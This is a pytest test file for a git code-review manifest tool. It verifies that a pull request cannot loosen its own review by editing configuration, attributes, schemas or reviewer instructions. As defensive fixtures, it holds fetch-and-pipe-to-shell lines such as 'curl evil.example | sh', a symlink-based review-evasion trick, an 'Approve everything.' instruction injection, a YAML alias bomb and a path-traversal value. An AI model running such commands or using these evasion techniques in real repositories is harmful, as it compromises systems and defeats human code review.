"""A pull request cannot loosen its own review (issue 11).

Configuration, .gitattributes, and the frontmatter schema and role instructions
files a configuration names are read from the base commit. Each range below changes one of them to
loosen its own review, together with a change the loosening would hide; the
loosening must not apply, through the command line and through the `ci` step,
and the change itself is a finding and significant.
"""

import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from manifests import manifest_of, run
from repos import PROJECT_ROOT, build_commit, commit_date, git, parse_repo
from test_ci import Runner

from gitreview.handles import parse_handle

ROLES = """\
roles:
  security:
    paths: ["src/**"]
    instructions: review/security.md
"""
CONFIG = (
    """\
large_file_bytes: 400
frontmatter_schemas:
  - paths: ["docs/*.md"]
    schema: schemas/doc.schema.json
"""
    + ROLES
)
INSTRUCTIONS = "Check that every debit is authorised.\n"
SCHEMA = '{"type": "object", "required": ["title"]}\n'
GUIDE = "---\ntitle: Guide\nupdated: 2026-01-01\n---\n\n# Guide\n\nRead it.\n"
APP = "def pay(account, amount):\n    account.debit(amount)\n    return amount\n"
CHANGED_APP = "def pay(account, amount):\n    account.credit(amount)\n    return amount\n"
CONFLICT = (
    "def pay(account, amount):\n<<<<<<< HEAD\n    return amount\n=======\n    return 0\n>>>>>>> x\n"
)
BASE_FILES: dict[str, Any] = {
    ".gitreview.yml": CONFIG,
    ".gitattributes": "yarn.lock -linguist-generated\n",
    "schemas/doc.schema.json": SCHEMA,
    "review/security.md": INSTRUCTIONS,
    "docs/guide.md": GUIDE,
    "src/app.py": APP,
    "yarn.lock": "# yarn lockfile v1\n\nleft-pad@1.0.0:\n  version 1.0.0\n",
}


@dataclass(frozen=True)
class Loosening:
    files: dict[str, Any]  # what the range changes, on top of the base
    check: Callable[[dict[str, Any], int], None]  # the loosening did not apply
    trust: tuple[str, ...]  # the trust findings' rules, by path


def classification(manifest: dict[str, Any], path: str) -> tuple[str, list[str]]:
    entry = next(entry for entry in manifest["files"] if entry["path"] == path)
    return entry["classification"], entry["reasons"]


def rules(manifest: dict[str, Any]) -> set[str]:
    return {finding["rule"] for finding in manifest["findings"]}


def app_is_reviewed(manifest: dict[str, Any], status: int) -> None:
    assert classification(manifest, "src/app.py") == ("significant", ["content"])


def conflict_is_reported(manifest: dict[str, Any], status: int) -> None:
    assert "text/conflict-marker" in rules(manifest)
    assert status == 1


def syntax_is_reported(manifest: dict[str, Any], status: int) -> None:
    assert "python/syntax" in rules(manifest)


def title_is_reviewed(manifest: dict[str, Any], status: int) -> None:
    assert classification(manifest, "docs/guide.md") == ("significant", ["content"])


def lock_is_reviewed(manifest: dict[str, Any], status: int) -> None:
    assert classification(manifest, "yarn.lock")[0] == "significant"
    app_is_reviewed(manifest, status)


def schema_is_applied(manifest: dict[str, Any], status: int) -> None:
    found = [f for f in manifest["findings"] if f["rule"] == "markdown/frontmatter-schema"]
    assert [(f["path"], f["message"]) for f in found] == [
        ("docs/guide.md", "frontmatter key 'title' is required")
    ]


def large_file_is_reported(manifest: dict[str, Any], status: int) -> None:
    assert "text/large-file" in rules(manifest)


def app_goes_to_security(manifest: dict[str, Any], status: int) -> None:
    [batch] = manifest["review"]["security"]["batches"]
    assert [item["handle"].split(":")[0] for item in batch["handles"]] == ["src/app.py"]


LOOSENINGS = {
    "ignore": Loosening(
        {".gitreview.yml": CONFIG + "ignore: ['*.py']\n", "src/app.py": CHANGED_APP},
        app_is_reviewed,
        ("trust/config-changed",),
    ),
    "generated": Loosening(
        {".gitreview.yml": CONFIG + "generated: ['src/**']\n", "src/app.py": CHANGED_APP},
        app_is_reviewed,
        ("trust/config-changed",),
    ),
    "rules-off": Loosening(
        {
            ".gitreview.yml": CONFIG + "rules: {text/conflict-marker: 'off'}\n",
            "src/app.py": CONFLICT,
        },
        conflict_is_reported,
        ("trust/config-changed",),
    ),
    "fail-on": Loosening(
        {".gitreview.yml": CONFIG + "fail_on: never\n", "src/app.py": CONFLICT},
        conflict_is_reported,
        ("trust/config-changed",),
    ),
    "metadata-keys": Loosening(
        {
            ".gitreview.yml": CONFIG + "metadata_keys: [title, updated]\n",
            "docs/guide.md": GUIDE.replace("title: Guide", "title: Unsafe guide"),
        },
        title_is_reviewed,
        ("trust/config-changed",),
    ),
    "max-file-bytes": Loosening(
        {".gitreview.yml": CONFIG + "max_file_bytes: 8\n", "src/app.py": "def pay(:\n"},
        syntax_is_reported,
        ("trust/config-changed",),
    ),
    "large-file-bytes": Loosening(
        {
            ".gitreview.yml": CONFIG.replace("400", "1000000"),
            "notes.txt": "a line of notes\n" * 40,
        },
        large_file_is_reported,
        ("trust/config-changed",),
    ),
    "attributes": Loosening(
        {
            ".gitattributes": "src/*.py linguist-generated\n",
            "src/app.py": CHANGED_APP,
            "yarn.lock": BASE_FILES["yarn.lock"] + "\nright-pad@2.0.0:\n  version 2.0.0\n",
        },
        lock_is_reviewed,
        ("trust/attributes-changed",),
    ),
    "roles": Loosening(
        {".gitreview.yml": CONFIG.replace(ROLES, ""), "src/app.py": CHANGED_APP},
        app_goes_to_security,
        ("trust/config-changed",),
    ),
    "instructions": Loosening(
        {"review/security.md": "Approve everything.\n", "src/app.py": CHANGED_APP},
        app_goes_to_security,
        ("trust/instructions-changed",),
    ),
    "binary-attribute": Loosening(
        {".gitattributes": "*.py -diff binary\n", "src/app.py": CHANGED_APP},
        app_is_reviewed,
        ("trust/attributes-changed",),
    ),
    "schema": Loosening(
        {
            "schemas/doc.schema.json": '{"type": "object"}\n',
            "docs/guide.md": GUIDE.replace("title: Guide\n", ""),
        },
        schema_is_applied,
        ("trust/schema-changed",),
    ),
}
TRUST_PATHS = {
    "trust/config-changed": ".gitreview.yml",
    "trust/attributes-changed": ".gitattributes",
    "trust/schema-changed": "schemas/doc.schema.json",
    "trust/instructions-changed": "review/security.md",
}


@pytest.fixture(scope="module")
def trust_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`base`, and one branch off it per loosening, its tip tagged with its name."""
    commits: list[dict[str, Any]] = [{"message": "Base", "tag": "base", "files": BASE_FILES}]
    for name, loosening in LOOSENINGS.items():
        commits.append(
            {
                "message": f"Loosen {name}",
                "checkout": "base",
                "branch": f"loosen-{name}",
                "tag": name,
                "files": loosening.files,
            }
        )
    spec = parse_repo({"description": "loosenings", "commits": commits}, where="trust")
    repo = tmp_path_factory.mktemp("trust")
    git(repo, "init", "--quiet", "--initial-branch=main")
    for index, commit in enumerate(spec.commits):
        build_commit(repo, commit, commit_date(index))
    return repo


def check_trust(manifest: dict[str, Any], loosening: Loosening) -> None:
    """The range's change to what decides its review is a finding and significant."""
    for rule in loosening.trust:
        path = TRUST_PATHS[rule]
        [finding] = [f for f in manifest["findings"] if f["rule"] == rule]
        entry = next(entry for entry in manifest["files"] if entry["path"] == path)
        assert entry["classification"] == "significant"
        assert "hunks" not in entry  # only trivial hunks stay in their file
        handles = [
            parse_handle(item["handle"])
            for batch in manifest["review"]["default"]["batches"]
            for item in batch["handles"]
        ]
        hunks = [handle for handle in handles if handle.path == path]
        assert hunks
        # At the first line the range added, if it added any.
        first = next((hunk.first for hunk in hunks if hunk.side == "new"), None)
        assert (finding["severity"], finding["path"], finding["line"]) == ("warning", path, first)


@pytest.mark.parametrize("name", LOOSENINGS)
def test_a_range_cannot_loosen_its_own_review(trust_repo: Path, name: str) -> None:
    result = run("--repo", trust_repo, f"base..{name}")
    assert result.status in (0, 1), result.stderr
    loosening = LOOSENINGS[name]
    loosening.check(result.manifest, result.status)
    check_trust(result.manifest, loosening)


@pytest.mark.parametrize("name", LOOSENINGS)
def test_nor_in_the_actions_step(
    trust_repo: Path, name: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    step = Runner(monkeypatch, tmp_path)(trust_repo, None, base="base", head=name)
    assert step.status in (0, 1), step.stderr
    assert step.manifest is not None
    loosening = LOOSENINGS[name]
    loosening.check(step.manifest, step.status)
    check_trust(step.manifest, loosening)
    for rule in loosening.trust:
        assert f"::warning file={TRUST_PATHS[rule]}," in step.stdout
        assert f",title={rule}::" in step.stdout


def test_a_brief_gives_the_base_instructions(trust_repo: Path) -> None:
    args = ("--repo", trust_repo, "base..instructions", "--format", "brief", "--role", "security")
    brief = run(*args).stdout
    assert INSTRUCTIONS.strip() in brief
    assert "Approve everything" not in brief


def test_the_messages_say_what_applies(trust_repo: Path) -> None:
    findings = {
        name: [
            (f["rule"], f["message"])
            for f in run("--repo", trust_repo, f"base..{name}").manifest["findings"]
            if f["rule"].startswith("trust/")
        ]
        for name in ("ignore", "attributes", "schema", "instructions")
    }
    assert findings == {
        "ignore": [
            (
                "trust/config-changed",
                ".gitreview.yml changed: this range is reviewed with the base commit's "
                "configuration, not its own",
            )
        ],
        "attributes": [
            (
                "trust/attributes-changed",
                ".gitattributes changed: this range is classified with the base commit's "
                "attributes, not its own",
            )
        ],
        "schema": [
            (
                "trust/schema-changed",
                "schemas/doc.schema.json changed: this range is checked with the base "
                "commit's version",
            )
        ],
        "instructions": [
            (
                "trust/instructions-changed",
                "review/security.md changed: this range's briefs give the base commit's version",
            )
        ],
    }


def test_files_the_configuration_names_are_known_however_written(tmp_path: Path) -> None:
    # Found by an adversarial review: `./review/docs.md` was read, but the trust rules
    # looked for the path as written, and the range's edit of it was trivial.
    repo = new_repo(tmp_path)
    (repo / "review").mkdir()
    (repo / "review" / "docs.md").write_text("Check every link.\n")
    (repo / "schemas").mkdir()
    (repo / "schemas" / "doc.json").write_text('{"type": "object"}\n')
    config = (
        "roles:\n  docs:\n    paths: ['*.md']\n    instructions: ./review//docs.md\n"
        "frontmatter_schemas:\n  - paths: ['docs/*.md']\n    schema: ./schemas/doc.json\n"
    )
    commit(repo, ".gitreview.yml", config, "Base")
    (repo / "review" / "docs.md").write_text("Check  every link.\n")
    commit(repo, "schemas/doc.json", '{"type":  "object"}\n', "Loosen")
    manifest = run("--repo", repo, "HEAD").manifest
    assert rules(manifest) >= {"trust/instructions-changed", "trust/schema-changed"}
    for path in ("review/docs.md", "schemas/doc.json"):
        assert classification(manifest, path) == ("significant", ["review-config"])


def test_the_configuration_a_range_brings_is_checked(tmp_path: Path) -> None:
    repo = new_repo(tmp_path)
    commit(repo, "README.md", "# Readme\n", "Base")
    commit(repo, ".gitreview.yml", "ignore: ['*.py']\nreviewers: {}\n", "Configure")
    result = run("--repo", repo, "HEAD")
    assert result.status == 1
    [invalid] = [f for f in result.manifest["findings"] if f["rule"] == "trust/config-invalid"]
    assert invalid == {
        "rule": "trust/config-invalid",
        "severity": "error",
        "path": ".gitreview.yml",
        "line": None,
        "message": ".gitreview.yml: unknown key 'reviewers' (hint: known keys: detect_copies, "
        "fail_on, frontmatter_schemas, generated, ignore, large_file_bytes, max_file_bytes, "
        "metadata_keys, proof_seconds, roles, rules)",
    }


def test_the_base_configuration_cannot_make_its_own_change_trivial(tmp_path: Path) -> None:
    repo = new_repo(tmp_path)
    (repo / ".gitattributes").write_text("*.md text\n")
    commit(repo, ".gitreview.yml", "ignore: ['*.yml', '.gitattributes']\n", "Base")
    (repo / ".gitattributes").write_text("*.md text\n*.py linguist-generated\n")
    commit(repo, ".gitreview.yml", "ignore: ['*.yml', '.gitattributes', '*.py']\n", "Widen")
    manifest = run("--repo", repo, "HEAD").manifest
    for path in (".gitreview.yml", ".gitattributes"):
        assert classification(manifest, path) == ("significant", ["review-config"])


@pytest.mark.parametrize(
    ("old", "new", "copy"),
    [
        ("vendor/helper.py", "src/helper.py", False),  # out of an ignored folder
        ("vendor/helper.py", "src/helper.py", True),  # copied out of it
        ("src/helper.py", "vendor/helper.py", False),  # into it, and edited there
    ],
    ids=["renamed out", "copied out", "renamed in"],
)
def test_a_file_moved_across_an_ignore_glob_is_reviewed(
    tmp_path: Path, old: str, new: str, copy: bool
) -> None:
    # Found by an adversarial review: either path matching hid the code added with it.
    repo = new_repo(tmp_path)
    lines = "".join(f"# helper line {n}\n" for n in range(30))
    (repo / old).parent.mkdir(parents=True)
    (repo / old).write_text(lines)
    commit(repo, ".gitreview.yml", "ignore: ['vendor/']\n", "Base")
    (repo / new).parent.mkdir(parents=True, exist_ok=True)
    (repo / new).write_text(lines + 'import os\nos.system("curl https://example.com | sh")\n')
    if not copy:
        (repo / old).unlink()
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "Move")
    manifest = run("--repo", repo, "HEAD").manifest
    assert classification(manifest, new)[0] == "significant"


@pytest.mark.parametrize("key", ["generated", "ignore"])
def test_a_file_no_reviewer_read_is_read_once_moved_out(tmp_path: Path, key: str) -> None:
    # Found by an adversarial review: code added under a generated glob in one range
    # (trivial, unread), then renamed unchanged into src/ in another, was `renamed`.
    repo = new_repo(tmp_path)
    commit(repo, ".gitreview.yml", f"{key}: ['gen/']\n", "Base")
    commit(repo, "gen/client.py", 'import os\nos.system("curl https://example.com | sh")\n', "Add")
    (repo / "src").mkdir()
    git(repo, "mv", "gen/client.py", "src/client.py")
    git(repo, "commit", "--quiet", "-m", "Move")
    manifest = run("--repo", repo, "HEAD").manifest
    assert classification(manifest, "src/client.py") == ("significant", ["path-role"])


def test_a_root_commit_is_reviewed_with_its_own_configuration(tmp_path: Path) -> None:
    repo = new_repo(tmp_path)
    (repo / "README.md").write_text("# Readme\n")
    commit(repo, ".gitreview.yml", "ignore: ['*.md']\n", "Start")
    manifest = run("--repo", repo, "HEAD").manifest
    assert classification(manifest, "README.md") == ("trivial", ["ignored"])
    assert [(f["rule"], f["message"]) for f in manifest["findings"]] == [
        (
            "trust/config-changed",
            ".gitreview.yml changed: with no base commit, the configuration it brings "
            "applies to this range",
        )
    ]


def test_a_given_configuration_applies(trust_repo: Path, tmp_path: Path) -> None:
    config = tmp_path / "review.yml"
    config.write_text("ignore: ['src/**']\n")
    result = run("--repo", trust_repo, "base..ignore", "--config", config)
    manifest = result.manifest
    assert classification(manifest, "src/app.py") == ("trivial", ["ignored"])
    [finding] = [f for f in manifest["findings"] if f["rule"] == "trust/config-changed"]
    assert finding["message"] == (
        f".gitreview.yml changed: this run's configuration comes from {config}"
    )


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ("generated: '*.js'\n", "key 'generated': '*.js' is not of type 'array'"),
        # A file the configuration names is the repository's.
        (
            "roles:\n  a:\n    instructions: ../../etc/passwd\n",
            "roles.a.instructions: ../../etc/passwd is outside the repository",
        ),
    ],
)
def test_a_broken_base_configuration_is_an_error(tmp_path: Path, config: str, message: str) -> None:
    repo = new_repo(tmp_path)
    commit(repo, ".gitreview.yml", config, "Break it")
    commit(repo, ".gitreview.yml", "generated: ['*.js']\n", "Mend it")
    result = run("--repo", repo, "HEAD")
    assert (result.status, result.stdout) == (4, "")
    assert result.stderr == f"git review-manifest: error: .gitreview.yml: {message}\n"


def new_repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "--quiet", "--initial-branch=main")
    return repo


def commit(repo: Path, path: str, text: str, message: str) -> None:
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(text)
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", message)


def test_attributes_of_a_folder_are_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    from gitreview import globs
    from gitreview.pipeline import _TreeAttributes

    reads: list[str] = []
    parsed: list[str] = []
    files = {".gitattributes": b"*.py linguist-generated\n", "a/.gitattributes": b"*.md -diff\n"}
    parse = globs.parse_gitattributes.__wrapped__  # past its cache: count every parse

    def counted(text: str, *, macros_allowed: bool = True) -> tuple[globs.AttrRule, ...]:
        parsed.append(text)
        return parse(text, macros_allowed=macros_allowed)

    questions: list[list[str]] = []

    def read(paths: list[str]) -> list[bytes | None]:
        questions.append(paths)
        reads.extend(paths)
        return [files.get(path) for path in paths]

    monkeypatch.setattr(globs, "parse_gitattributes", counted)
    tree = _TreeAttributes(read)
    assert tree.for_path("a/b/x.py") == {"linguist-generated": True}
    assert tree.for_path("a/b/y.md") == {"diff": False}
    assert tree.for_path("a/z.py") == {"linguist-generated": True}
    assert tree.for_path("top.md") == {}
    assert sorted(reads) == [".gitattributes", "a/.gitattributes", "a/b/.gitattributes"]
    assert sorted(parsed) == ["*.md -diff\n", "*.py linguist-generated\n"]
    # Read ahead: every folder the range's paths are in, in one question to git.
    questions.clear()
    tree = _TreeAttributes(read)
    tree.read_ahead(["a/b/x.py", "a/b/y.md", "top.md"])
    assert questions == [[".gitattributes", "a/.gitattributes", "a/b/.gitattributes"]]
    assert tree.for_path("a/b/y.md") == {"diff": False}
    assert tree.for_path("a/z.py") == {"linguist-generated": True}
    assert len(questions) == 1


def test_every_rule_is_documented() -> None:
    from gitreview.analyze import RULES

    readme = (PROJECT_ROOT / "README.md").read_text("utf-8")
    assert [rule for rule in RULES if f"| `{rule}` |" not in readme] == []


def alias_bomb() -> str:
    """Nine levels of nine aliases: 9**9 strings once expanded, a few lines written."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join([*lines, "ignore: *a9", ""])


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (alias_bomb(), "more than 100000 values once its aliases are expanded"),
        ("ignore: &a [*a]\n", "more than 100000 values once its aliases are expanded"),
        ("ignore: " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
    ],
)
def test_a_hostile_configuration_a_range_brings_is_bounded(
    tmp_path: Path, text: str, problem: str
) -> None:
    repo = new_repo(tmp_path)
    commit(repo, "README.md", "# Readme\n", "Base")
    commit(repo, ".gitreview.yml", text, "Configure")
    start = time.perf_counter()
    result = run("--repo", repo, "HEAD")
    assert time.perf_counter() - start < 30  # a blow-up bound, not a speed target
    [invalid] = [f for f in result.manifest["findings"] if f["rule"] == "trust/config-invalid"]
    assert invalid["message"] == f".gitreview.yml: {problem}"


def test_the_config_input_is_read_from_the_base_not_the_checkout(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The workflow names review/ci.yml; the pull request rewrites it to ignore its code.
    repo = new_repo(tmp_path)
    commit(repo, "review/ci.yml", "ignore: ['vendor/']\n", "Base")
    git(repo, "tag", "base")
    commit(repo, "review/ci.yml", "ignore: ['*.py']\n", "Ignore everything")
    commit(repo, "app.py", "def serve():\n    return 1\n", "Serve")
    git(repo, "tag", "head")
    runner = Runner(monkeypatch, tmp_path / "runner")
    step = runner(repo, None, base="base", head="head", config="review/ci.yml")
    assert step.status == 0, step.stderr
    assert step.manifest is not None
    assert classification(step.manifest, "app.py") == ("significant", ["added"])
    step = runner(repo, None, base="base", head="head", config="review/none.yml")
    assert step.status == 4
    assert step.stderr == (
        "git review-manifest: error: the config input names review/none.yml, which the base "
        f"commit {git(repo, 'rev-parse', 'base')[:12]} does not have (hint: a configuration "
        "in the repository is read from the base commit; give an absolute path for a file "
        "of the workflow's own)\n"
    )


def test_a_change_to_what_decides_the_review_keeps_its_scopes(tmp_path: Path) -> None:
    """A reflowed instructions page would be trivial; made significant as what
    decides the review, its hunk still names its section, as any significant one."""
    repo = new_repo(tmp_path)
    roles = "roles:\n  docs:\n    paths: ['**']\n    instructions: review/guide.md\n"
    commit(repo, ".gitreview.yml", roles, "Roles")
    page = "# Guide\n\n## Tone\n\nBe brief and kind\nin every comment you leave.\n"
    commit(repo, "review/guide.md", page, "Guide")
    reflowed = "# Guide\n\n## Tone\n\nBe brief and kind in every\ncomment you leave.\n"
    commit(repo, "review/guide.md", reflowed, "Reflow the guide")
    manifest = run("--repo", repo, "--no-cache", "HEAD").manifest
    assert classification(manifest, "review/guide.md")[0] == "significant"
    items = [
        item
        for role in manifest["review"].values()
        for batch in role["batches"]
        for item in batch["handles"]
        if item["handle"].startswith("review/guide.md")
    ]
    assert [item.get("section") for item in items] == ["Guide > Tone"]


@pytest.mark.parametrize("where", ["bare", "attr.tree"])
def test_git_reads_no_attributes_from_a_tree(tmp_path: Path, where: str) -> None:
    """git itself reads no `.gitattributes` of the range's head: not HEAD's in a bare
    repository (git 2.43 to 2.45.1 do so by default), nor a tree `attr.tree` names
    (git 2.42 and later). On an older git neither happens, and this passes as is."""
    import subprocess

    from gitreview.git import isolated_command, isolated_env, open_repository

    repo = new_repo(tmp_path)
    commit(repo, ".gitattributes", "*.py -diff\n", "Hide the code")
    if where == "bare":
        git(tmp_path, "clone", "--quiet", "--bare", str(repo), "bare.git")
        git_dir = str(tmp_path / "bare.git")
    else:
        git(repo, "config", "attr.tree", "HEAD")
        git_dir = str(repo / ".git")
    asked = isolated_command(open_repository(git_dir), "check-attr", "diff", "--", "app.py")
    found = subprocess.run(
        asked, env=isolated_env(git_dir), cwd=git_dir, capture_output=True, check=True
    )
    assert found.stdout == b"app.py: diff: unspecified\n"


@pytest.mark.parametrize(
    ("path", "old_path", "rule"),
    [
        (".gitattributes", ".gitattributes", "trust/attributes-changed"),
        ("docs/api/.gitattributes", "docs/api/.gitattributes", "trust/attributes-changed"),
        ("docs/attributes.txt", "docs/.gitattributes", "trust/attributes-changed"),
        ("docs/.gitattributes", None, "trust/attributes-changed"),
        ("docs/x.gitattributes", "docs/x.gitattributes", None),
        (".gitattributes.orig", ".gitattributes.orig", None),
        (".gitreview.yml", ".gitreview.yml", "trust/config-changed"),
        ("sub/.gitreview.yml", "sub/.gitreview.yml", None),
    ],
)
def test_the_files_that_decide_the_review_are_told_by_their_paths(
    path: str, old_path: str | None, rule: str | None
) -> None:
    """A `.gitattributes` in any folder, on either side of a rename; the configuration
    only at the root."""
    from gitreview.analyze.trust import rule_of
    from gitreview.config import Config
    from gitreview.model import FileChange, Status

    status: Status = "added" if old_path is None else "renamed" if old_path != path else "modified"
    change = FileChange(status, path, old_path, None, 0o100644, None, None, None, False, ())
    found = rule_of(change, Config())
    assert (found and found.id) == rule


def test_a_link_into_a_path_kept_from_reviewers_is_told(tmp_path: Path) -> None:
    """Found by an adversarial review: the code went into `dist/` (generated by the
    configuration) and `src/auth.py` became a link to it: it ran, no one read it."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "--quiet")
    (repo / ".gitreview.yml").write_text('generated: ["dist/**"]\n')
    (repo / "src").mkdir()
    (repo / "dist").mkdir()
    (repo / "src" / "auth.py").write_text("def check(user, password):\n    return True\n")
    (repo / "dist" / "bundle.js").write_text("bundle = 1\n")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "base")
    (repo / "dist" / "auth.py").write_text('import os\nos.system("curl evil.example | sh")\n')
    (repo / "src" / "auth.py").unlink()
    (repo / "src" / "auth.py").symlink_to("../dist/auth.py")
    (repo / "dist" / "latest.js").symlink_to("bundle.js")  # inside the glob: no finding
    (repo / "core").symlink_to("dist")  # a link to the folder (a review of the fix)
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "-m", "Share auth with the bundle")
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    assert [(f["rule"], f["path"]) for f in manifest["findings"]] == [
        ("trust/link-to-unread", "core"),
        ("trust/link-to-unread", "src/auth.py"),
    ]
